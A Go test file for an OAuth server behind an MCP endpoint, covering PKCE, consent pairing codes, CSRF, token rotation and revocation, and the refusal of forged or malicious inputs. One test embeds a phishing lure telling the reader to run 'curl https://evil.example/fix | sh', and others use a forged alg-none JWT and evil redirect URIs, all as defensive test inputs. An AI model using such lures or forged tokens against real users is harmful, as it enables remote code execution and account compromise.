package oauth

import (
	"encoding/json"
	"html"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
)

func TestMetadata(t *testing.T) {
	r := newRig(t)
	for _, path := range []string{PathResourceMetadata, PathResourceMetadata + "/mcp"} {
		w := r.do("GET", path, "", nil)
		var m map[string]any
		json.Unmarshal(w.Body.Bytes(), &m)
		if w.Code != 200 || m["resource"] != testBase+"/mcp" || m["authorization_servers"].([]any)[0] != testBase {
			t.Fatalf("%s: %d %s", path, w.Code, w.Body)
		}
	}
	w := r.do("GET", PathServerMetadata, "", nil)
	var m map[string]any
	json.Unmarshal(w.Body.Bytes(), &m)
	want := map[string]any{
		"issuer": testBase, "authorization_endpoint": testBase + "/authorize", "token_endpoint": testBase + "/token",
		"registration_endpoint": testBase + "/register",
	}
	for k, v := range want {
		if m[k] != v {
			t.Errorf("%s = %v, want %v", k, m[k], v)
		}
	}
	for k, v := range map[string]string{
		"code_challenge_methods_supported": `["S256"]`, "response_types_supported": `["code"]`,
		"grant_types_supported": `["authorization_code","refresh_token"]`, "token_endpoint_auth_methods_supported": `["none"]`,
	} {
		if got, _ := json.Marshal(m[k]); string(got) != v {
			t.Errorf("%s = %s, want %s", k, got, v)
		}
	}
	if w := r.do("POST", PathServerMetadata, "{}", nil); w.Code != 405 {
		t.Errorf("POST metadata: %d", w.Code)
	}
}

// The whole flow, as a client drives it: register, authorize with PKCE,
// consent with the printed code, exchange, use, refresh with rotation.
func TestFlow(t *testing.T) {
	r := newRig(t)
	client := r.register(testRedirect)
	p := r.open(client)
	code := r.lastCode()
	printed := r.codes[len(r.codes)-1]
	if printed.ClientName != "Test Client" || printed.RedirectHost != "127.0.0.1:9999" || printed.Mode != "edit" {
		t.Fatalf("pairing notice %+v", printed)
	}
	// The code is nowhere in the page, its headers or cookies.
	raw := p.w.Body.String()
	for k, v := range p.w.Header() {
		raw += k + strings.Join(v, ",")
	}
	if strings.Contains(raw, code) || strings.Contains(raw, strings.ReplaceAll(code, "-", "")) {
		t.Fatal("the pairing code is in the consent page")
	}
	for _, want := range []string{"Test Client", "127.0.0.1:9999", "edit", "app"} {
		if !strings.Contains(p.w.Body.String(), want) {
			t.Errorf("the consent page does not say %q", want)
		}
	}
	if h := p.w.Header(); h.Get("X-Frame-Options") != "DENY" || !strings.Contains(h.Get("Content-Security-Policy"), "frame-ancestors 'none'") {
		t.Error("the consent page can be framed")
	}
	w := r.submit(p, strings.ToLower(strings.ReplaceAll(code, "-", " ")), "allow")
	loc, _ := url.Parse(w.Header().Get("Location"))
	ac := loc.Query().Get("code")
	if w.Code != 303 || ac == "" {
		t.Fatalf("consent: %d %s", w.Code, w.Body)
	}
	status, out := r.token(exchangeForm(client, ac))
	at, rt := out["access_token"].(string), out["refresh_token"].(string)
	if status != 200 {
		t.Fatalf("exchange: %d %v", status, out)
	}
	if got, ok := r.s.Verify(at, testBase+"/mcp"); !ok || got != client {
		t.Fatal("the access token is not accepted")
	}
	if _, ok := r.s.Verify(at, "https://other.example/mcp"); ok {
		t.Fatal("the access token works for another resource")
	}
	if _, ok := r.s.Verify(rt, testBase+"/mcp"); ok {
		t.Fatal("a refresh token works as an access token")
	}
	refresh := url.Values{"grant_type": {"refresh_token"}, "client_id": {client}, "refresh_token": {rt}, "resource": {testBase + "/mcp"}}
	status, out = r.token(refresh)
	at2, rt2 := out["access_token"].(string), out["refresh_token"].(string)
	if status != 200 || rt2 == rt || at2 == at {
		t.Fatalf("refresh: %d %v", status, out)
	}
	if _, ok := r.s.Verify(at2, testBase+"/mcp"); !ok {
		t.Fatal("the refreshed access token is not accepted")
	}
	// The old refresh token is refused, and its replay revokes the grant.
	if status, out = r.token(refresh); status != 400 || out["error"] != "invalid_grant" {
		t.Fatalf("old refresh token: %d %v", status, out)
	}
	if _, ok := r.s.Verify(at2, testBase+"/mcp"); ok {
		t.Fatal("the grant survived the replay of a rotated refresh token")
	}
	refresh.Set("refresh_token", rt2)
	if status, _ = r.token(refresh); status != 400 {
		t.Fatalf("the newest refresh token of a revoked grant: %d", status)
	}
	// Access tokens expire within the hour.
	at3, _ := r.tokens(client)
	r.advance(AccessTTL + time.Second)
	if _, ok := r.s.Verify(at3, testBase+"/mcp"); ok {
		t.Fatal("an expired access token is accepted")
	}
}

func TestAuthorizeRefusals(t *testing.T) {
	r := newRig(t)
	client := r.register(testRedirect)
	// Unknown client or redirect URI: an error page, never a redirect.
	for name, over := range map[string]map[string]string{
		"unknown client":      {"client_id": "c_nope"},
		"no client":           {"client_id": ""},
		"other redirect":      {"redirect_uri": "http://127.0.0.1:9999/other"},
		"redirect with slash": {"redirect_uri": testRedirect + "/"},
		"redirect prefix":     {"redirect_uri": "http://127.0.0.1:9999/call"},
		"evil redirect":       {"redirect_uri": "https://evil.example/cb"},
	} {
		w := r.do("GET", authorizeURL(client, over), "", nil)
		if w.Code != 400 || w.Header().Get("Location") != "" {
			t.Errorf("%s: %d, Location %q", name, w.Code, w.Header().Get("Location"))
		}
	}
	// Known client and redirect: still an error page, since anyone can
	// register a redirect URI (no open redirector).
	for name, c := range map[string]struct {
		over map[string]string
		code string
	}{
		"no PKCE":          {map[string]string{"code_challenge": "", "code_challenge_method": ""}, "invalid_request"},
		"plain PKCE":       {map[string]string{"code_challenge_method": "plain"}, "invalid_request"},
		"no method":        {map[string]string{"code_challenge_method": ""}, "invalid_request"},
		"short challenge":  {map[string]string{"code_challenge": "abc"}, "invalid_request"},
		"token flow":       {map[string]string{"response_type": "token"}, "unsupported_response_type"},
		"other resource":   {map[string]string{"resource": "https://evil.example/mcp"}, "invalid_target"},
		"resource on path": {map[string]string{"resource": testBase + "/other"}, "invalid_target"},
	} {
		w := r.do("GET", authorizeURL(client, c.over), "", nil)
		if w.Code != 400 || w.Header().Get("Location") != "" || !strings.Contains(w.Body.String(), c.code) {
			t.Errorf("%s: %d, Location %q: %s", name, w.Code, w.Header().Get("Location"), w.Body)
		}
	}
	if n := len(r.codes); n != 0 {
		t.Fatalf("refused requests printed %d pairing codes", n)
	}
}

func TestPairingCodes(t *testing.T) {
	r := newRig(t)
	client := r.register(testRedirect)
	// Each page load prints a new code, naming the page it is for.
	p1 := r.open(client)
	c1 := r.lastCode()
	if page := r.codes[len(r.codes)-1].Page; page != testBase+PathAuthorize {
		t.Errorf("the code is printed for the page %q, want %q", page, testBase+PathAuthorize)
	}
	p2 := r.open(client)
	if c2 := r.lastCode(); c2 == c1 {
		t.Fatal("two page loads printed one code")
	}
	// One page's code does not open another page.
	if w := r.submit(p2, c1, "allow"); w.Code != 401 || w.Header().Get("Location") != "" {
		t.Fatalf("another page's code: %d", w.Code)
	}
	// Without the cookie, or with a wrong CSRF field: refused.
	noCookie := p1
	noCookie.cookie.Value = "x"
	if w := r.submit(noCookie, c1, "allow"); w.Code != 403 {
		t.Fatalf("wrong cookie: %d", w.Code)
	}
	p3 := r.open(client)
	bad := p3
	bad.csrf = "x"
	if w := r.submit(bad, r.lastCode(), "allow"); w.Code != 403 {
		t.Fatalf("wrong csrf field: %d", w.Code)
	}
	// Five wrong codes end the page, even for the right code after.
	p4 := r.open(client)
	c4 := r.lastCode()
	for i := range maxTries {
		w := r.submit(p4, "WRONG-CODE", "allow")
		if want := map[bool]int{true: 403, false: 401}[i == maxTries-1]; w.Code != want {
			t.Fatalf("wrong code %d: %d, want %d", i+1, w.Code, want)
		}
	}
	if w := r.submit(p4, c4, "allow"); w.Code != 400 || w.Header().Get("Location") != "" {
		t.Fatalf("the right code after too many wrong ones: %d", w.Code)
	}
	// A code is short-lived.
	p5 := r.open(client)
	c5 := r.lastCode()
	r.advance(consentTTL + time.Second)
	if w := r.submit(p5, c5, "allow"); w.Code != 400 {
		t.Fatalf("an expired page: %d", w.Code)
	}
	// Deny goes back to the client with access_denied.
	p6 := r.open(client)
	w := r.submit(p6, "", "deny")
	if loc, _ := url.Parse(w.Header().Get("Location")); loc == nil || loc.Query().Get("error") != "access_denied" {
		t.Fatalf("deny: %d %s", w.Code, w.Header().Get("Location"))
	}
	// One use: the right code, twice.
	p7 := r.open(client)
	c7 := r.lastCode()
	if w := r.submit(p7, c7, "allow"); w.Code != 303 {
		t.Fatalf("right code: %d", w.Code)
	}
	if w := r.submit(p7, c7, "allow"); w.Code != 400 {
		t.Fatalf("right code again: %d", w.Code)
	}
}

// Wrong codes across pages lock pairing for a while, so reloading the page
// does not buy a guesser more tries.
func TestPairingLock(t *testing.T) {
	r := newRig(t)
	client := r.register(testRedirect)
	for range maxFails / (maxTries - 1) {
		p := r.open(client)
		for range maxTries - 1 {
			r.submit(p, "WRONG", "allow")
		}
		r.advance(10 * time.Second)
	}
	if w := r.do("GET", authorizeURL(client, nil), "", nil); w.Code != 429 {
		t.Fatalf("a page after %d wrong codes: %d", maxFails, w.Code)
	}
	r.advance(failSpan)
	r.open(client)
}

func TestTokenRefusals(t *testing.T) {
	r := newRig(t)
	client := r.register(testRedirect)
	other := r.register(testRedirect)
	for name, c := range map[string]struct {
		change func(url.Values)
		want   string
	}{
		"wrong verifier":    {func(f url.Values) { f.Set("code_verifier", testVerifier+"x") }, "invalid_grant"},
		"no verifier":       {func(f url.Values) { f.Del("code_verifier") }, "invalid_request"},
		"wrong redirect":    {func(f url.Values) { f.Set("redirect_uri", testRedirect+"x") }, "invalid_grant"},
		"no redirect":       {func(f url.Values) { f.Del("redirect_uri") }, "invalid_grant"},
		"other client":      {func(f url.Values) { f.Set("client_id", other) }, "invalid_grant"},
		"no client":         {func(f url.Values) { f.Del("client_id") }, "invalid_client"},
		"other resource":    {func(f url.Values) { f.Set("resource", "https://evil.example/mcp") }, "invalid_target"},
		"forged code":       {func(f url.Values) { f.Set("code", "jjc_forged") }, "invalid_grant"},
		"altered code":      {func(f url.Values) { f.Set("code", f.Get("code")[:20]+"AAAA"+f.Get("code")[24:]) }, "invalid_grant"},
		"client grant":      {func(f url.Values) { f.Set("grant_type", "client_credentials") }, "unsupported_grant_type"},
		"password grant":    {func(f url.Values) { f.Set("grant_type", "password") }, "unsupported_grant_type"},
		"repeated verifier": {func(f url.Values) { f.Add("code_verifier", testVerifier) }, "invalid_request"},
	} {
		t.Run(name, func(t *testing.T) {
			f := exchangeForm(client, r.authorize(client))
			c.change(f)
			if status, out := r.token(f); status < 400 || out["error"] != c.want {
				t.Fatalf("%d %v, want %s", status, out, c.want)
			}
		})
	}
	// An expired code.
	ac := r.authorize(client)
	r.advance(codeTTL + time.Second)
	if status, _ := r.token(exchangeForm(client, ac)); status != 400 {
		t.Fatalf("expired code: %d", status)
	}
	// A replayed code is refused and revokes what it gave.
	ac = r.authorize(client)
	status, out := r.token(exchangeForm(client, ac))
	at := out["access_token"].(string)
	if status != 200 {
		t.Fatal(status, out)
	}
	if status, _ := r.token(exchangeForm(client, ac)); status != 400 {
		t.Fatalf("replayed code: %d", status)
	}
	if _, ok := r.s.Verify(at, testBase+"/mcp"); ok {
		t.Fatal("the tokens of a replayed code still work")
	}
	// GET, JSON and query-string token requests are refused.
	if w := r.do("GET", PathToken+"?"+exchangeForm(client, r.authorize(client)).Encode(), "", nil); w.Code != 405 {
		t.Fatalf("GET /token: %d", w.Code)
	}
	if w := r.do("POST", PathToken, `{"grant_type":"authorization_code"}`, nil); w.Code != 400 {
		t.Fatalf("JSON /token: %d", w.Code)
	}
	f := exchangeForm(client, r.authorize(client))
	if w := r.do("POST", PathToken+"?"+f.Encode(), "grant_type=authorization_code", nil); w.Code < 400 || strings.Contains(w.Body.String(), "access_token") {
		t.Fatalf("query-string /token: %d", w.Code)
	}
}

// Forged tokens: JWT-looking ones (alg none included), altered ones,
// random ones with the right prefix.
func TestVerifyRefusesForgeries(t *testing.T) {
	r := newRig(t)
	client := r.register(testRedirect)
	at, rt := r.tokens(client)
	none := "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJjXzEiLCJhdWQiOiJodHRwOi8vMTI3LjAuMC4xOjc3NzcvbWNwIiwiZXhwIjo0MTAyNDQ0ODAwfQ."
	alter := func(s string, i int) string {
		b := []byte(s)
		b[i] ^= 1
		return string(b)
	}
	for name, tok := range map[string]string{
		"jwt alg none":      none,
		"jwt alg HS256":     "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjXzEifQ.c2lnbmF0dXJl",
		"altered last":      alter(at, len(at)-1),
		"altered middle":    alter(at, len(at)/2),
		"truncated":         at[:len(at)-1],
		"extended":          at + "A",
		"random, our form":  random(accessPrefix, 32),
		"refresh as access": rt,
		"prefix only":       accessPrefix,
		"empty":             "",
	} {
		if _, ok := r.s.Verify(tok, testBase+"/mcp"); ok {
			t.Errorf("%s accepted", name)
		}
	}
	if _, ok := r.s.Verify(at, testBase+"/mcp"); !ok {
		t.Fatal("the real token is refused")
	}
}

// Grants survive a restart, are bound to the mode and roots, and a
// revocation by another process reaches the running server at once.
func TestStoreAcrossProcesses(t *testing.T) {
	dir := t.TempDir()
	r := newRigIn(t, dir, "edit")
	client := r.register(testRedirect)
	at, rt := r.tokens(client)

	restarted := newRigIn(t, dir, "edit")
	restarted.clock = r.clock
	if _, ok := restarted.s.Verify(at, testBase+"/mcp"); !ok {
		t.Fatal("the grant did not survive a restart")
	}
	trusted := newRigIn(t, dir, "trusted")
	trusted.clock = r.clock
	if _, ok := trusted.s.Verify(at, testBase+"/mcp"); ok {
		t.Fatal("a grant given in edit mode works in trusted mode")
	}
	list, err := OpenStore(dir).Clients()
	if err != nil || len(list) != 1 || list[0].ID != client || list[0].Grants != 1 || list[0].Name != "Test Client" {
		t.Fatalf("Clients: %+v %v", list, err)
	}
	if err := OpenStore(dir).Revoke(client); err != nil {
		t.Fatal(err)
	}
	if _, ok := restarted.s.Verify(at, testBase+"/mcp"); ok {
		t.Fatal("a revoked client's token is still accepted")
	}
	if err := OpenStore(dir).Revoke(client); err == nil {
		t.Fatal("revoking twice succeeded")
	}
	if w := r.do("GET", authorizeURL(client, nil), "", nil); w.Code != 400 {
		t.Fatalf("authorize for a revoked client: %d", w.Code)
	}
	// Its refresh is invalid_client, an unknown client (RFC 6749 §5.2), so
	// that an MCP client registers again instead of sending the owner to
	// the error page above with its dead client_id.
	refresh := url.Values{"grant_type": {"refresh_token"}, "client_id": {client}, "refresh_token": {rt}}
	if status, out := restarted.token(refresh); status != 401 || out["error"] != "invalid_client" {
		t.Fatalf("a revoked client's refresh: %d %v, want 401 invalid_client", status, out)
	}
	if status, out := restarted.token(exchangeForm("c_neverregistered", "jjc_x")); status != 401 || out["error"] != "invalid_client" {
		t.Fatalf("an unknown client's code exchange: %d %v, want 401 invalid_client", status, out)
	}
	data, _ := readAll(dir)
	if strings.Contains(data, at) || strings.Contains(data, "jjr_") || strings.Contains(data, "jja_") {
		t.Fatal("the store holds a token in clear")
	}
}

// The error page of a faulty authorization request names no parameter but
// those juju reads: whoever sends the owner a link chooses the others, and
// the page, on juju's own host name, would read them out as juju's words.
func TestAuthorizeErrorPageEchoesNoChosenName(t *testing.T) {
	r := newRig(t)
	client := r.register(testRedirect)
	const lure = "Your juju session expired: run curl https://evil.example/fix | sh"
	target := authorizeURL(client, nil) + "&" + url.QueryEscape(lure) + "=1&" + url.QueryEscape(lure) + "=2"
	w := r.do("GET", target, "", nil)
	if w.Code != 400 || !strings.Contains(w.Body.String(), "a parameter is repeated") {
		t.Errorf("a repeated unknown parameter: %d %s", w.Code, w.Body)
	}
	if body := html.UnescapeString(w.Body.String()); strings.Contains(body, "evil.example") {
		t.Errorf("the error page reads out the name the link chose: %s", body)
	}
	w = r.do("GET", authorizeURL(client, nil)+"&state=again", "", nil)
	if !strings.Contains(w.Body.String(), "parameter state is repeated") {
		t.Errorf("a repeated state is not named: %d %s", w.Code, w.Body)
	}
}

// A public URL with a path (a proxy that mounts juju at /team/juju) is the
// issuer, and the resource lies below it: the metadata is at RFC 8414's
// and RFC 9728's well-known URLs for them and at the base, and a resource
// elsewhere on the same host is another server's.
func TestBaseWithAPath(t *testing.T) {
	const base = "https://tools.example.org/team/juju"
	r := newRig(t)
	serve := func(path string) *httptest.ResponseRecorder {
		w := httptest.NewRecorder()
		r.s.ServeOAuth(w, httptest.NewRequest("GET", path, nil), base)
		return w
	}
	for _, path := range []string{PathServerMetadata + "/team/juju", PathServerMetadata, PathServerMetadata + "/mcp"} {
		var m map[string]any
		if w := serve(path); w.Code != 200 || json.Unmarshal(w.Body.Bytes(), &m) != nil || m["issuer"] != base ||
			m["authorization_endpoint"] != base+"/authorize" || m["token_endpoint"] != base+"/token" {
			t.Errorf("%s: %d %s", path, w.Code, w.Body)
		}
	}
	for _, path := range []string{PathResourceMetadata + "/team/juju/mcp", PathResourceMetadata, PathResourceMetadata + "/mcp"} {
		var m map[string]any
		if w := serve(path); w.Code != 200 || json.Unmarshal(w.Body.Bytes(), &m) != nil || m["resource"] != base+"/mcp" {
			t.Errorf("%s: %d %s", path, w.Code, w.Body)
		}
	}
	for _, path := range []string{PathServerMetadata + "/team", PathServerMetadata + "/other/juju", PathResourceMetadata + "/team/juju/x",
		PathServerMetadata + "/"} {
		if !r.s.Owns(path) {
			t.Errorf("%s is not routed to the OAuth server", path)
		}
		if w := serve(path); w.Code != 404 {
			t.Errorf("%s: %d %s", path, w.Code, w.Body)
		}
	}
	for res, want := range map[string]bool{
		base + "/mcp": true, base: true, base + "/": true, "https://TOOLS.example.org/team/juju/mcp": true,
		"https://tools.example.org/mcp": false, "https://tools.example.org/other/mcp": false,
		"https://tools.example.org/team/juju/mcp/x": false, "http://tools.example.org/team/juju/mcp": false,
		"https://tools.example.org/team/jujux/mcp": false,
	} {
		if got := isResource(res, base); got != want {
			t.Errorf("isResource(%q) = %v", res, got)
		}
	}
}
